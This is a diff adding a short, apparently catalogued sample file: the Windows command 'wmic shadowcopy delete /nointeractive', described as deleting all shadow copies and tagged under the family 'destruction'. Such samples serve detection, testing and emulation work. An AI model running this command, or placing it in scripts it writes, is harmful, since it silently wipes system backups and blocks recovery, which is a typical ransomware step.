@@ -1,0 +1,3 @@
+# description: Deletes all shadow copies through wmic.
+# family: destruction
+wmic shadowcopy delete /nointeractive
